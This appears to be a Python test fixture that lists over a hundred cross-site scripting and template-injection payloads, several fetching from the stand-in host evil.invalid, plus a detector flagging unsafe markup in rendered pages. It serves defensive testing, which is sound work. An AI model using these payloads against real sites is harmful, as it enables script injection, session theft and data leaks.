"""A hundred and more ways to run a script from text, by class; every one calls ``__hit(N)``.

``N`` stands for the payload's number. Some ask for something from ``evil.invalid`` instead, which
no resolver knows; a browser under test notes every such request. Our own list.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Final

from selectolax.lexbor import LexborHTMLParser

HOST: Final = "evil.invalid"
# 31337 times three: only a template that runs makes it.
SUM: Final = "94011"


@dataclass(frozen=True, slots=True)
class Payload:
    """One attack, as it is typed."""

    number: int
    kind: str
    text: str


_BY_KIND: Final[dict[str, tuple[str, ...]]] = {
    "tags": (
        "<script>__hit(N)</script>",
        "<ScRiPt>__hit(N)</sCrIpT >",
        "<script\t>__hit(N)</script\n>",
        "<script/x>__hit(N)</script>",
        "<script src=//evil.invalid/N></script>",
        "<script>__hit(N)//",
        "<scr<script>ipt>__hit(N)</scr</script>ipt>",
        "</script><script>__hit(N)</script>",
        "</title><script>__hit(N)</script>",
        "</textarea><script>__hit(N)</script>",
        "</option></select><script>__hit(N)</script>",
        "</style><script>__hit(N)</script>",
        "</noscript><script>__hit(N)</script>",
        "--><script>__hit(N)</script><!--",
        "]]><script>__hit(N)</script>",
        "<iframe srcdoc='<script>parent.__hit(N)</script>'></iframe>",
        "<iframe src=//evil.invalid/N></iframe>",
        "<object data=//evil.invalid/N></object>",
        "<embed src=//evil.invalid/N>",
        "<base href=//evil.invalid/>",
        "<meta http-equiv=refresh content='0;url=//evil.invalid/N'>",
        "<link rel=stylesheet href=//evil.invalid/N>",
        "<form action=//evil.invalid/N id=q><input type=submit autofocus></form>",
        "<script type=module>__hit(N)</script>",
        "<template><script>__hit(N)</script></template><script>__hit(N)</script>",
    ),
    "events": (
        "<img src=x onerror=__hit(N)>",
        "<img src=x onerror='__hit(N)'//",
        "<img/src=x/onerror=__hit(N)>",
        "<IMG SRC=x OnErRoR=__hit(N)>",
        '<img src="x` `<script>__hit(N)</script>"` `>',
        "<image src=x onerror=__hit(N)>",
        "<body onload=__hit(N)>",
        "<body onpageshow=__hit(N)>",
        "<input autofocus onfocus=__hit(N)>",
        "<select autofocus onfocus=__hit(N)></select>",
        "<textarea autofocus onfocus=__hit(N)></textarea>",
        "<details open ontoggle=__hit(N)>",
        "<video><source onerror=__hit(N)></video>",
        "<video src=x onerror=__hit(N)></video>",
        "<audio src=x onerror=__hit(N)></audio>",
        "<marquee onstart=__hit(N)>x</marquee>",
        "<div onmouseover=__hit(N)>x</div>",
        "<a href=# onclick=__hit(N)>x</a>",
        "<button onfocus=__hit(N) autofocus>x</button>",
        "<div tabindex=1 id=x onfocusin=__hit(N) autofocus>x</div>",
        "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationstart=__hit(N)>x</b>",
        "<iframe onload=__hit(N)></iframe>",
        "<img src=x onerror=&#95;&#95;hit(N)>",
        "<img src=x onerror=\\u005f_hit(N)>",
    ),
    "attributes": (
        '" onmouseover="__hit(N)" x="',
        "' onmouseover='__hit(N)' x='",
        '" autofocus onfocus="__hit(N)',
        "' autofocus onfocus='__hit(N)",
        '"><script>__hit(N)</script>',
        "'><script>__hit(N)</script>",
        '"><img src=x onerror=__hit(N)>',
        "'><img src=x onerror=__hit(N)>",
        "` onmouseover=__hit(N) `",
        " onmouseover=__hit(N) ",
        "x/onfocus=__hit(N)/autofocus/",
        '"/><svg/onload=__hit(N)>',
        "&quot;><script>__hit(N)</script>",
        "&#34; onfocus=&#34;__hit(N)&#34; autofocus",
    ),
    "scripts": (
        "';__hit(N);//",
        '";__hit(N);//',
        "\\';__hit(N);//",
        '\\";__hit(N);//',
        "`+__hit(N)+`",
        "${__hit(N)}",
        "</script>-__hit(N)-<script>",
        "\u2028__hit(N)//",
        '"}];__hit(N);[{"',
        "<!--<script>__hit(N)//-->",
    ),
    "addresses": (
        "javascript:__hit(N)",
        "JaVaScRiPt:__hit(N)",
        "java\tscript:__hit(N)",
        "java\nscript:__hit(N)",
        "\x01javascript:__hit(N)",
        " javascript:__hit(N)",
        "javascript&colon;__hit(N)",
        "&#106;avascript:__hit(N)",
        "javascript://evil.invalid/%0a__hit(N)",
        "data:text/html,<script>__hit(N)</script>",
        "data:text/html;base64,PHNjcmlwdD5fX2hpdChOKTwvc2NyaXB0Pg==",
        "vbscript:__hit(N)",
        "<a href=javascript:__hit(N)>x</a>",
        "<a href='java&Tab;script:__hit(N)'>x</a>",
    ),
    "svg": (
        "<svg onload=__hit(N)>",
        "<svg><script>__hit(N)</script></svg>",
        "<svg><script href=data:text/javascript,__hit(N) /></svg>",
        "<svg><animate onbegin=__hit(N) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:__hit(N)><text x=9 y=9>x</text></a></svg>",
        "<svg><set attributeName=href to=javascript:__hit(N) /></svg>",
        "<svg><foreignObject><iframe onload=__hit(N)></iframe></foreignObject></svg>",
        "<svg><image href=x onerror=__hit(N) /></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=__hit(N)/>#x'/></svg>",
        "<svg><style><img src=x onerror=__hit(N)></style></svg>",
        "<svg><title></title><img src=x onerror=__hit(N)></svg>",
    ),
    "mathml": (
        "<math href=javascript:__hit(N)>x</math>",
        "<math><mtext><img src=x onerror=__hit(N)></mtext></math>",
        "<math><annotation-xml encoding=text/html><svg onload=__hit(N)></annotation-xml></math>",
        "<math><mi><table><mglyph><style><img src=x onerror=__hit(N)></style></mglyph></table>",
        "<math><maction actiontype=statusline xlink:href=javascript:__hit(N)>x</maction></math>",
    ),
    "markdown": (
        "[x](javascript:__hit(N))",
        "[x](JAVASCRIPT:__hit(N))",
        "[x](&#106;avascript:__hit(N))",
        "[x](java&Tab;script:__hit(N))",
        "[x](data:text/html,<script>__hit(N)</script>)",
        "![x](//evil.invalid/N)",
        '![x](x "onerror=__hit(N)")',
        '![x"onerror="__hit(N)](x)',
        "<javascript:__hit(N)>",
        "[x]: javascript:__hit(N)\n\n[x]",
        '[x](http://a" onmouseover="__hit(N))',
        "``<script>__hit(N)</script>``",
        "```\n</code></pre><script>__hit(N)</script>\n```",
        # What is planted behind it stands in the second column.
        "| a | b |\n|---|---|\n| <img src=x onerror=__hit(N)> |",
        "## <img src=x onerror=__hit(N)>",
        '[x](<javascript:__hit(N)> "t")',
        '[@"><script>__hit(N)</script>]',
        "<b>bold</b><!-- --><script>__hit(N)</script>",
    ),
    "css": (
        "<style>@import '//evil.invalid/N';</style>",
        "<style>*{background:url(//evil.invalid/N)}</style>",
        "<p style='background:url(//evil.invalid/N)'>x</p>",
        '" style="background:url(//evil.invalid/N)',
        "}*{background:url(//evil.invalid/N)}",
        "<link rel=icon href=//evil.invalid/N>",
        "<p style='width:expression(__hit(N))'>x</p>",
    ),
    "templates": (
        "{{ 31337 * 3 }}",
        "{% if 1 %}{{ 31337 * 3 }}{% endif %}",
        "${31337*3}",
        "#{31337*3}",
        "<%= 31337*3 %>",
        "{{ config.items() }}{{ 31337*3 }}",
        "{{constructor.constructor('__hit(N)')()}}",
        "%(name)s {0.__class__} %s %n",
        "{{ ''.__class__.__mro__ }}{{ 31337*3 }}",
    ),
    "unicode": (
        "\uff1cscript\uff1e__hit(N)\uff1c/script\uff1e",
        "\u02bascript\u02ba <script>__hit(N)</script>",
        "<\u200bscript>__hit(N)</script>",
        "<script\u00a0>__hit(N)</script>",
        "\u202e>tpircs<<script>__hit(N)</script>",
        "+ADw-script+AD4-__hit(N)+ADw-/script+AD4-",
        "%3Cscript%3E__hit(N)%3C/script%3E",
        "\\u003cscript\\u003e__hit(N)\\u003c/script\\u003e",
        "\\x3cscript\\x3e__hit(N)\\x3c/script\\x3e",
        "&lt;script&gt;__hit(N)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;__hit(N)",
        "<img src=x o\u0149error=__hit(N)>",
        "\ufe64script\ufe65__hit(N)",
        "<\u017fcript>__hit(N)</\u017fcript>",
    ),
}

PAYLOADS: Final[tuple[Payload, ...]] = tuple(
    Payload(number, kind, text.replace("(N)", f"({number})").replace("/N", f"/{number}"))
    for number, (kind, text) in enumerate(
        (kind, text) for kind, texts in _BY_KIND.items() for text in texts
    )
)

# What acts only where it begins a text, or where nothing else is in it: an address, the inside of a
# program, a line of Markdown, a template. The others act wherever they stand.
_ALONE: Final = frozenset(("addresses", "scripts", "markdown", "templates"))
# But some are taken for words behind others, or make words of what follows; a test compares what
# runs alone with what runs in company.
_SWALLOWED: Final = ('" style=', "' autofocus", '" autofocus', "}*{", '<img src="x`')
_IN_COMPANY: Final = tuple(
    one.text for one in PAYLOADS if one.kind not in _ALONE and not one.text.startswith(_SWALLOWED)
)
_TOGETHER: Final = 10
# Payloads ten at a time, of different kinds each time; and those that stand for themselves.
COMPANIES: Final = tuple(_IN_COMPANY[start::_TOGETHER] for start in range(_TOGETHER))
TOGETHER: Final = tuple(" ".join(company) for company in COMPANIES)
LONERS: Final = tuple(one.text for one in PAYLOADS if one.text not in _IN_COMPANY)

_RUNS: Final = re.compile(
    r"^\s*(?:javascript|vbscript|data:(?!image/(?:png|svg\+xml|gif)))", re.IGNORECASE
)
_GAPS: Final = re.compile(r"[\x00-\x20]+")
_ADDRESSES: Final = frozenset(
    ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background")
)
_DATA: Final = frozenset(("application/json", "application/ld+json"))


def markup_faults(html: str) -> list[str]:
    """What on a page could run or fetch what somebody typed; our own pages have none of it."""
    faults = []
    for tag in LexborHTMLParser(html).css("*"):
        name = str(tag.tag)
        for attribute, value in tag.attributes.items():
            what = attribute.lower()
            given = _GAPS.sub("", value or "")
            if what.startswith("on") or what in {"style", "srcdoc"}:
                faults.append(f"{what} on <{name}>: {given[:80]}")
            elif what in _ADDRESSES and _RUNS.match(given):
                faults.append(f"{what} of <{name}>: {given[:80]}")
            elif what in _ADDRESSES and HOST in given and name != "a":
                faults.append(f"{what} of <{name}> leads away: {given[:80]}")
        if name in {"base", "iframe", "object", "embed", "style", "math", "foreignobject"}:
            faults.append(f"<{name}>: {(tag.html or '')[:80]}")
        is_data = tag.attributes.get("type") in _DATA
        if name == "script" and not is_data and "__hit" in (tag.text() or ""):
            faults.append(f"a script: {(tag.html or '')[:80]}")
        if name == "meta" and (tag.attributes.get("http-equiv") or "").lower() == "refresh":
            faults.append("a page that leads away by itself")
    if SUM in html:
        faults.append("a template that ran")
    return faults
